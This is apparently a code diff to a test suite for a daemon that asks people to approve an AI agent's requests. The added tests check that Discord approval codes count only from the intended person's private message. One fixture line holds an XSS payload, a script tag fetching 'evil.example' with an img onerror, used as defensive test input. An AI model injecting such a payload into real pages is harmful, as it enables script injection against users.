@@ -19,6 +19,7 @@ import type { Database } from "../../src/storage/database.ts"
 import { readJournal } from "../../src/storage/journal.ts"
 import { openDatabase } from "../../src/storage/open-database.ts"
 import { sql } from "../../src/storage/sql.ts"
+import { serveDiscord } from "../../testkit/discord/peer.ts"
 import { createPlainInstallation } from "../../testkit/program/program.ts"
 import { sqliteDatabase } from "../../testkit/setup/databases.ts"
 import { openNotifyWorld } from "../../testkit/worlds/notify-world.ts"
@@ -29,9 +30,11 @@ const hostile = "</pre><script>fetch('//evil.example')</script><img src=x onerro
 
 const ends: (() => unknown)[] = []
 const letters: string[] = []
+let discord: Awaited<ReturnType<typeof serveDiscord>>
+let people: { ann: string; bot: string }
 let door: { port: number; token: string; db: Database; install: string; key: ApprovalKey }
 
-/** One real daemon with a real mail server; requests are written as an agent's dispatch writes them. */
+/** One real daemon with a real mail server and a Discord of our own; requests are written as an agent's dispatch writes them. */
 beforeAll(async () => {
   const mail = new SMTPServer({
     authOptional: true,
@@ -51,7 +54,13 @@ beforeAll(async () => {
   ends.push(() => new Promise<void>((resolve) => mail.close(() => resolve())))
   const address = mail.server.address()
   const mailPort = typeof address === "object" && address !== null ? address.port : 0
-  const installation = createPlainInstallation({ onEnd: (work) => void ends.push(work) })
+  discord = await serveDiscord()
+  ends.push(discord.close)
+  people = { ann: discord.addUser("ann"), bot: discord.addUser("helper", { isBot: true }) }
+  const installation = createPlainInstallation({
+    onEnd: (work) => void ends.push(work),
+    env: { REVERIE_DISCORD_TOKEN: discord.token },
+  })
   writeFileSync(
     join(installation.home, "config.toml"),
     `[embedding]
@@ -69,9 +78,15 @@ email_from = "reverie@example.net"
 email_host = "127.0.0.1"
 email_port = ${mailPort}
 email_tls = "none"
+chat_to = ["discord:${people.ann}", "discord:${people.bot}"]
+[chat.discord]
+enabled = true
+api_url = "${discord.apiUrl}"
 `,
   )
   const daemon = await installation.daemon()
+  const isConnected = async () => (await daemon.client.chat()).chat?.channels[0]?.state === "connected"
+  while (!(await isConnected())) await new Promise((resolve) => setTimeout(resolve, 20))
   const { daemon: info } = await daemon.client.status()
   if (!info.running) throw new Error("not running")
   const { token, id } = JSON.parse(readFileSync(installation.paths.installFile, "utf8"))
@@ -630,7 +645,7 @@ describe("At the same moment", () => {
 
 describe("A code", () => {
   test("is given by somebody else in the channel", async () => {
-    const world = await openNotifyWorld(sqliteDatabase())
+    const world = await openNotifyWorld(sqliteDatabase(), { notify: { chat_to: ["discord:1", "discord:2"] } })
     const request = await world.ask()
     const grant = { request, person: "discord:1", expiresAt: request.expiresAt }
     const code = await world.db.write((transaction) => issueCode(transaction, world, grant))
@@ -652,6 +667,62 @@ describe("A code", () => {
     const said = { person: ann, from: "discord", text: `approve ${token}` }
     expect(await world.approvals.answer(said)).toBeUndefined()
     expect(await world.request(request.id)).toMatchObject({ state: "pending" })
+  })
+})
+
+describe("A code that came by a private message", () => {
+  /** A request that waits, and the codes that two people were sent for it. */
+  async function asked() {
+    const request = await ask({ urgency: "high" })
+    const talks = { ann: discord.openDm(people.ann), bot: discord.openDm(people.bot) }
+    const codeIn = (talk: string) => {
+      const notice = discord
+        .posts()
+        .find(({ channel, text }) => channel === talk && text.includes(request.description))
+      return /`approve ([0-9a-z]{8})`/.exec(notice?.text ?? "")?.[1] ?? ""
+    }
+    await discord.until(() => codeIn(talks.ann) !== "" && codeIn(talks.bot) !== "")
+    return { request, talks, codes: { ann: codeIn(talks.ann), bot: codeIn(talks.bot) } }
+  }
+
+  /** The person's own answer, after whatever was tried before it, is the only one that counted. */
+  async function expectOnlyAnn({ request, talks, codes }: Awaited<ReturnType<typeof asked>>) {
+    const said = discord.say(talks.ann, people.ann, `deny ${codes.ann}: no`)
+    await discord.until(() => discord.posts().some(({ replyTo }) => replyTo === said))
+    const decided = await readJournal(door.db, {
+      subject: request.id,
+      kind: ["permission.approved", "permission.denied"],
+    })
+    expect(decided.map(({ kind }) => kind)).toEqual(["permission.denied"])
+  }
+
+  test("is given by somebody else of the same name, in private", async () => {
+    const one = await asked()
+    const other = discord.addUser("ann")
+    const talk = discord.openDm(other)
+    discord.say(talk, other, "hello")
+    // From the answer on, what is said there is taken in at once.
+    await discord.until(() => discord.posts().some(({ channel }) => channel === talk))
+    discord.say(talk, other, `approve ${one.codes.ann}`)
+    await expectOnlyAnn(one)
+  })
+
+  test("is given by the person where others read along", async () => {
+    const one = await asked()
+    discord.say(discord.channel, people.ann, `approve ${one.codes.ann}`)
+    await expectOnlyAnn(one)
+  })
+
+  test("is given by a program that was named as a person", async () => {
+    const one = await asked()
+    discord.say(one.talks.bot, people.bot, `approve ${one.codes.bot}`)
+    await expectOnlyAnn(one)
+  })
+
+  test("is put into a message that said something else before", async () => {
+    const one = await asked()
+    discord.edit(discord.say(one.talks.ann, people.ann, "good morning"), `approve ${one.codes.ann}`)
+    await expectOnlyAnn(one)
   })
 })
 
